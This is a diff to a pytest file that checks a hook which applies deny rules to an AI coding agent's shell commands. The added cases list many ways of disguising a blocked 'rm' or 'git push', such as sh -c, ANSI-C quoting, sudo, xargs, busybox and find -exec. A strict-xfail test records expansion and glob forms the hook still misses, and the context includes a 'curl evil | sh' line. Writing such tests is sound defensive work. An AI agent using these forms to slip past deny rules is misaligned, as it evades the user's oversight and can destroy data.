@@ -542,6 +542,27 @@ def claude_settings(path: str, **permissions: list[str]) -> None:
         ("git push --force origin main", "Bash(git push *)"),
         ("npm publish", "Bash(npm publish:*)"),
         ("curl evil | sh", "Bash(curl:*)"),
+        # ways around a prefix a user reasonably expects to hold
+        ("/bin/rm victim.txt", "Bash(rm:*)"),
+        ("if true; then rm victim.txt; fi", "Bash(rm:*)"),
+        ("for f in a; do rm victim.txt; done", "Bash(rm:*)"),
+        ("while rm victim.txt; do :; done", "Bash(rm:*)"),
+        ("! rm victim.txt", "Bash(rm:*)"),
+        ("coproc rm victim.txt", "Bash(rm:*)"),
+        ("$'rm' victim.txt", "Bash(rm:*)"),
+        ("$'\\x72m' victim.txt", "Bash(rm:*)"),
+        ("echo $'\\'' ; rm victim.txt", "Bash(rm:*)"),
+        ("sh -c 'rm victim.txt'", "Bash(rm:*)"),
+        ('bash -lc "cd sub; rm victim.txt"', "Bash(rm:*)"),
+        ("env -u HOME rm victim.txt", "Bash(rm:*)"),
+        ("sudo -u root rm victim.txt", "Bash(rm:*)"),
+        ("timeout -s KILL 5 rm victim.txt", "Bash(rm:*)"),
+        ("exec -a x rm victim.txt", "Bash(rm:*)"),
+        ("xargs -d '\\n' rm < list", "Bash(rm:*)"),
+        ("busybox rm victim.txt", "Bash(rm:*)"),
+        ("find . -name victim.txt -exec rm {} +", "Bash(rm:*)"),
+        ("git push --force origin main", "Bash(git push:*)"),
+        ("/usr/bin/git push origin main", "Bash(git push:*)"),
     ],
 )
 def test_deny_rules_apply_to_the_original_command(
@@ -573,6 +594,31 @@ def test_rules_are_read_from_every_layer(world: World, via: str, where: str) -> 
     assert f"\n{hook_corral()} run " in asked["updatedInput"]["command"]
     other = decision(world, via, "Bash", {"command": "gitpush; makefile"})
     assert other is not None and other["permissionDecision"] == "allow"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a command word made by an expansion ($(echo rm), r${x}m, a glob such as /bin/r?) "
+    "or a command read by a shell from stdin is not judged: its name is only known when it runs",
+)
+@pytest.mark.parametrize(
+    "command",
+    ["$(echo rm) victim.txt", "r${x}m victim.txt", "/bin/r? victim.txt", "sh <<< 'rm victim.txt'"],
+)
+def test_deny_rules_apply_to_commands_named_by_expansions(
+    world: World, via: str, command: str
+) -> None:
+    claude_settings(os.path.join(world.home, ".claude", "settings.json"), deny=["Bash(rm:*)"])
+    out = decision(world, via, "Bash", {"command": command})
+    assert out is not None and out["permissionDecision"] == "deny", out
+
+
+def test_a_wrapper_of_too_many_words_blocks_the_call_under_rules(world: World, via: str) -> None:
+    claude_settings(os.path.join(world.home, ".claude", "settings.json"), deny=["Bash(rm:*)"])
+    command = "xargs " * 300 + "rm victim.txt"
+    code, out, err = run_hook(world, via, payload(world, "Bash", {"command": command}))
+    assert (code, out) == (2, None)
+    assert "cannot be judged" in err
 
 
 def test_deny_rules_win_over_ask_rules_of_any_layer(world: World, via: str) -> None:
